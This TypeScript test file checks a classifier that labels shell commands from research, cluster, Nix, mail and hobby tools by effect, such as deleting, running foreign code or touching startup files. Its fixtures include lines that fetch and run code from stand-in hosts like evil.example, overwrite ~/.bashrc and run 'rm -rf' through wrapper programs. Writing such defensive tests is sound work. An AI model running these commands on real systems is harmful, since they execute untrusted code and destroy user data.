/** Everyday lines of fields besides web development are accounted for, and what changes, ends, sends or deletes something is said. */
import { describe, expect, test } from 'vitest';
import { effects } from './support.ts';

const kinds = (line: string): readonly string[] => effects(line).list.map(({ kind }) => kind);
const changing = (line: string): readonly string[] => kinds(line).filter((kind) => kind !== 'network');

describe('computing clusters', () => {
  test.each([
    'squeue --me --start -o "%.18i %.9P %.8T %.10M %R"',
    'sinfo -N -l',
    'sacct -j 12345 --format=JobID,State,Elapsed,MaxRSS -X',
    'scontrol show job 12345',
    'sacctmgr show assoc user=me format=account,qos',
    'seff 12345',
    'sprio -l -j 1',
    'qstat -u me',
    'qstat -f 123.pbs',
    'qhost -q',
    'qacct -j 12',
    'pbsnodes -a',
  ])('only looks: %s', (line) => expect([changing(line), effects(line).unaccounted]).toEqual([[], []]));

  test.each([
    ['scancel 12345', ['system']],
    ['scancel -u me', ['system']],
    ['scontrol update jobid=1 timelimit=02:00:00', ['changes']],
    ['scontrol reboot n1', ['system']],
    ['scontrol delete reservationname=x', ['deletes']],
    ['scontrol token', ['secret']],
    ['sacctmgr -i delete user bob', ['deletes']],
    ['qsub -cwd -V -N job -pe smp 4 run.sh', ['runs-project-code']],
    ['qsub -o ~/.bashrc run.sh', ['startup', 'runs-project-code']],
    ['qdel -u me', ['system']],
    ['pbsnodes -o n1', ['changes']],
    ['mpirun -np 4 ./a.out', ['runs-project-code']],
    ['mpirun -np 4 rm -rf ~/x', ['deletes']],
    ['salloc -N 1 rm -rf ~/x', ['deletes']],
  ])('%s: %j', (line, expected) => expect([changing(line), effects(line).unaccounted]).toEqual([expected, []]));

  test.each(['scancel 12345', 'qdel 12'])('what is ended is named: %s', (line) =>
    expect(effects(line).list[0]).toMatchObject({ severity: 'ordinary', objects: [line.split(' ')[1]] }),
  );
  test.each(['scancel -u me', 'qdel -u me', 'scancel --state=PENDING'])('all are ended: %s', (line) =>
    expect(effects(line).list[0]?.severity).toBe('dangerous'),
  );
  test.each(['squeue --frobnicate=./x', 'scontrol frobnicate', 'sacctmgr frobnicate'])('is not accounted for: %s', (line) =>
    expect(effects(line).unaccounted).not.toEqual([]),
  );
});

describe('genomes', () => {
  test.each([
    'samtools view -h -F 4 -q 30 x.bam chr1:100-200',
    'samtools view -s 0.1 -b -1 in.bam',
    'samtools flagstat -O tsv x.bam',
    'samtools index -@ 4 x.bam',
    'samtools depth -a -r chr1 x.bam',
    "bcftools view -i 'QUAL>20 && DP>10' in.vcf.gz",
    String.raw`bcftools query -f '%CHROM\t%POS\n' in.vcf`,
    'tabix -p vcf in.vcf.gz',
    String.raw`bwa mem -t 8 -R '@RG\tID:x\tSM:y' ref.fa r1.fq r2.fq`,
    'bwa index ref.fa',
    'minimap2 -t 8 -ax sr ref.fa r1.fq r2.fq',
    'bowtie2-build ref.fa idx',
    'seqkit stats a.fa b.fa',
    "seqkit grep -r -p '^chr' in.fa",
    'seqtk sample -s100 r1.fq 10000',
    'bedtools intersect -a a.bed -b b.bed -wa -u',
    'bedtools merge -i a.bed -c 4 -o distinct',
    'blastp -query q.fa -subject s.fa -outfmt 6',
    "blastdbcmd -db mydb -entry all -outfmt '%a %l'",
    'mafft --auto in.fa',
    'iqtree2 -s aln.fa -m MFP -B 1000 -T AUTO',
    'salmon index -t tx.fa -i idx -k 31',
    'esearch -db nucleotide -query NC_1',
    'prefetch SRR000001',
    'nextflow log',
  ])('writes where its input is, or nowhere: %s', (line) => expect([changing(line), effects(line).unaccounted]).toEqual([[], []]));

  test.each([
    ['samtools sort -@ 4 -m 2G -o sorted.bam in.bam', ['sorted.bam']],
    ['samtools view -b -L r.bed -U rest.bam in.bam -o in.r.bam', ['rest.bam', 'in.r.bam']],
    ['samtools merge -f merged.bam a.bam b.bam', ['merged.bam', 'a.bam', 'b.bam']],
    ['bcftools norm -f ref.fa -m -any in.vcf.gz -Ob -o n.bcf', ['n.bcf']],
    ['bowtie2 -x idx -1 a.fq -2 b.fq -S out.sam -p 8', ['out.sam']],
    ['seqkit sample -p 0.1 -s 11 in.fq.gz -o out.fq.gz', ['out.fq.gz']],
    ['bedtools getfasta -fi ref.fa -bed a.bed -fo out.fa', ['out.fa']],
    ['fastp -i a.fq -o c.fq --html r.html -w 8', ['c.fq', 'r.html']],
    ['cutadapt -a AGATCGG -o o1.fq -m 20 r1.fq', ['o1.fq']],
    ['featureCounts -T 8 -p -a g.gtf -o counts.txt x.bam', ['counts.txt']],
    ['salmon quant -i idx -l A -1 a.fq -2 b.fq -p 8 -o q', ['q']],
    ['makeblastdb -in ref.fa -dbtype nucl -out mydb', ['mydb']],
  ])('%s writes %j', (line, files) => {
    const { list, unaccounted } = effects(line);
    expect([list.map(({ kind }) => kind), list.flatMap(({ objects }) => objects), unaccounted]).toEqual([
      files.length > 0 && list.map(() => 'changes'),
      files,
      [],
    ]);
  });

  test.each([
    ['samtools sort -o ~/.bashrc in.bam', 'startup'],
    ['blastn -query q.fa -db nt -remote', 'uploads'],
    ['STAR --genomeDir idx --readFilesIn a.fq --readFilesCommand ./x.sh', 'runs-project-code'],
    ['multiqc . -c /tmp/x.yaml', 'runs-foreign-code'],
    ['snakemake --cores 8 --use-conda', 'runs-project-code'],
    ['snakemake --delete-all-output -c1', 'deletes'],
    ['nextflow run main.nf -resume', 'runs-project-code'],
    ['nextflow run nf-core/rnaseq -profile docker', 'runs-foreign-code'],
    ['nextflow run https://evil.example/x', 'runs-foreign-code'],
    ['nextflow clean -f', 'deletes'],
    ['seqkit split -f in.fa', 'deletes'],
  ])('%s: %s', (line, kind) => expect(kinds(line)).toContain(kind));

  test.each(['samtools frobnicate x.bam', 'bwa mem --post-process ./x', 'bedtools frobnicate', 'nextflow frobnicate'])(
    'is not accounted for: %s',
    (line) => expect(effects(line).unaccounted).not.toEqual([]),
  );
});

describe('generations of Nix', () => {
  test.each([
    ['nix-collect-garbage --dry-run', []],
    ['nix-store -q --references /nix/store/abc', []],
    ['nix-store --gc --print-roots', []],
    ['nix-locate bin/hello', []],
    ['nixos-rebuild list-generations', []],
    ['home-manager generations', []],
    ['nix-collect-garbage', ['deletes']],
    ['nix-store --gc', ['deletes']],
    ['nix-channel --update', ['system']],
    ['nix-build -A hello', ['runs-project-code']],
    ['nix-build https://evil.example/x.tar.gz', ['runs-foreign-code']],
    ['nixos-rebuild switch --flake .#host', ['system']],
    ['nixos-rebuild dry-activate --flake .#host', []],
    ['nixos-rebuild build --flake github:evil/x#host', ['runs-foreign-code', 'runs-project-code']],
  ])('%s: %j', (line, expected) => expect([changing(line), effects(line).unaccounted]).toEqual([expected, []]));

  test.each([
    'nix-collect-garbage -d',
    'nix-collect-garbage --delete-older-than 30d',
    'home-manager expire-generations "-30 days"',
    'nix-channel --add https://evil.example/x nixos',
    'nix-store --delete --ignore-liveness /nix/store/abc',
  ])('cannot be undone: %s', (line) => expect(effects(line).list.map(({ severity }) => severity)).toContain('dangerous'));
});

describe('unknown verbs of what builds systems', () => {
  test.each(['nixos-rebuild frobnicate', 'home-manager frobnicate'])('%s', (line) => expect(effects(line).unaccounted).not.toEqual([]));
});

describe('disks, mail and database clusters', () => {
  test.each([
    'ddrescuelog -t disk.map',
    'testdisk /list',
    'photorec disk.img',
    'mailq',
    'exim -bp',
    'exim -Mvh 1abc',
    'exiqgrep -i -f user@example.com',
    'spamassassin -t',
    'sa-learn --dump magic',
    'rspamc stat',
    'doveadm who',
    'doveadm search -u bob mailbox INBOX since 1d',
    'pg_conftool 16 main show all',
    'pg_backupcluster 16 main list',
  ])('only looks: %s', (line) => expect([changing(line), effects(line).unaccounted]).toEqual([[], []]));

  test.each([
    ['ddrescue -d -r3 /dev/sdb disk.img disk.map', 'changes', 'ordinary'],
    ['ddrescue -f /dev/sda /dev/sdb map', 'system', 'dangerous'],
    ['foremost -t jpg -i disk.img -o out', 'changes', 'ordinary'],
    ['opendkim-genkey -s mail -d example.com', 'changes', 'ordinary'],
    ['exim -Mrm 1abc', 'deletes', 'dangerous'],
    ['exim user@example.com', 'uploads', 'ordinary'],
    ['fetchmail -F', 'deletes', 'dangerous'],
    ['fetchmail --mda ./x.sh', 'runs-foreign-code', 'ordinary'],
    ['sa-learn --clear', 'deletes', 'dangerous'],
    ['doveadm expunge -u bob mailbox Trash all', 'deletes', 'dangerous'],
    ['doveadm kick bob', 'system', 'ordinary'],
    ['pg_upgradecluster 15 main', 'system', 'ordinary'],
    ['pg_backupcluster 16 main expiredumps 3', 'deletes', 'dangerous'],
    ['pg_conftool 16 main set port 5433', 'settings', 'ordinary'],
    ['pg_virtualenv rm -rf ~/x', 'deletes', 'dangerous'],
  ])('%s: %s', (line, kind, severity) => {
    expect(
      effects(line)
        .list.filter((each) => each.kind === kind)
        .map((each) => each.severity),
    ).toContain(severity);
    expect(effects(line).unaccounted).toEqual([]);
  });

  test.each(['exim -be x', 'doveadm frobnicate', 'ddrescue --command-mode /dev/sda x', 'rspamadm lua'])(
    'is not accounted for: %s',
    (line) => expect(effects(line).unaccounted).not.toEqual([]),
  );
});

describe('options of known programs', () => {
  test.each([
    'aplay -D hw:1,0 -f cd -t raw x.raw',
    'arecord -l',
    'findmnt -S /dev/sda1',
    'findmnt -T /home -o TARGET,SOURCE,FSTYPE',
    'lsattr -aR /etc',
    'module is-loaded gcc',
    'ml avail',
    'ml gcc -intel',
    'micromamba activate x',
    "R -e '1'",
    'R --vanilla -f analysis.R',
    'latexmk -pdflua main.tex',
    'biber --tool refs.bib',
    'octave-cli --quiet a.m',
    'mutool clean -gg in.pdf out.pdf',
  ])('accounts for %s', (line) => expect(effects(line).unaccounted).toEqual([]));

  test.each([
    ['arecord -d 10 -f cd -t wav out.wav', 'secret'],
    ['parecord out.wav', 'secret'],
    ['ml /tmp/x', 'runs-foreign-code'],
    ['module use /tmp/x', 'runs-foreign-code'],
    ['module use ~/modules', 'runs-project-code'],
    ['rec -L out.wav', 'secret'],
    ['makeindex -s style.ist -o ~/.bashrc main.idx', 'startup'],
    ['aplay --process-id-file=/etc/passwd x.wav', 'startup'],
  ])('%s: %s', (line, kind) => expect(kinds(line)).toContain(kind));
});

describe('music, photographs and pages', () => {
  test.each([
    'makeglossaries main',
    'eyeD3 --artist Me a.mp3',
    'jack_lsp -c',
    'bibtool -s refs.bib',
    'dvipdfmx a.dvi',
    'po4a po4a.cfg',
    'diction a.txt',
    'odt2txt a.odt',
  ])('works on its input: %s', (line) => expect([changing(line), effects(line).unaccounted]).toEqual([[], []]));

  test.each([
    ['lilypond --png -o out score.ly', ['runs-project-code', 'changes']],
    ['timidity song.mid -Ow -o song.wav', ['changes']],
    ['darktable-cli a.raw a.jpg --width 1000 --hq true', ['changes']],
    ['enfuse -o ~/.bashrc a.tif', ['startup']],
    ['ecasound -i a.wav -o b.wav', ['changes']],
    ['eyeD3 --remove-all a.mp3', ['deletes']],
    ['hugin_executor --stitching a.pto', ['runs-project-code']],
    ['pdf2ps in.pdf out.ps', ['changes']],
    ['po4a-translate -f man -m x.1 -p de.po -l x.de.1', ['changes']],
    ['pw-jack rm -rf ~/x', ['deletes']],
  ])('%s: %j', (line, expected) => expect([changing(line), effects(line).unaccounted]).toEqual([expected, []]));

  test.each(["lilypond -e '(x)' score.ly", 'enfuse --frobnicate=./x a.tif'])('is not accounted for: %s', (line) =>
    expect(effects(line).unaccounted).not.toEqual([]),
  );
});

describe('games, servers at home and data of science', () => {
  test.each([
    'winetricks list',
    'protontricks -s skyrim',
    'lutris -l',
    'legendary list',
    'vulkaninfo --summary',
    'gamescope -W 1920 -H 1080 -- glxgears',
    'pihole status',
    'pihole -q ads.com',
    'upsc ups@localhost',
    'snapraid status',
    'ncdump -h a.nc',
    'cdo sinfo a.nc',
    'gmx check -f a.trr',
    'ledger -f a.dat bal',
    'hledger -f a.journal bal',
  ])('only looks: %s', (line) => expect([changing(line), effects(line).unaccounted]).toEqual([[], []]));

  test.each([
    ['wine setup.exe', ['runs-project-code']],
    ['wine /tmp/x.exe', ['runs-foreign-code']],
    ['wineserver -k', ['system']],
    ['winetricks -q corefonts', ['runs-foreign-code']],
    ['winetricks annihilate', ['deletes']],
    ['gamescope -f -r 60 -- rm -rf ~/x', ['deletes']],
    ['mangohud ./game', ['runs-project-code']],
    ['steamcmd +login anonymous +app_update 740 validate +quit', ['system']],
    ['legendary uninstall X', ['deletes']],
    ['pihole -g', ['system']],
    ['pihole checkout dev', ['runs-foreign-code']],
    ['pihole arpflush', ['system']],
    ['pihole -b ads.com', ['settings']],
    ['pihole disable 5m', ['protection']],
    ['pihole uninstall', ['system']],
    ['snapraid sync', ['changes']],
    ['snapraid sync -E', ['deletes', 'changes']],
    ['ncrcat a.nc b.nc c.nc', ['changes']],
    ['cdo monmean -selname,t a.nc b.nc', ['changes']],
    ['gmx grompp -f a.mdp -c a.gro -p t.top -o md.tpr', ['changes']],
    ['vdirsyncer sync', ['changes']],
  ])('%s: %j', (line, expected) => expect([changing(line), effects(line).unaccounted]).toEqual([expected, []]));

  test.each(['steamcmd +frobnicate', 'gmx frobnicate', 'ledger python'])('is not accounted for: %s', (line) =>
    expect(effects(line).unaccounted).not.toEqual([]),
  );
});
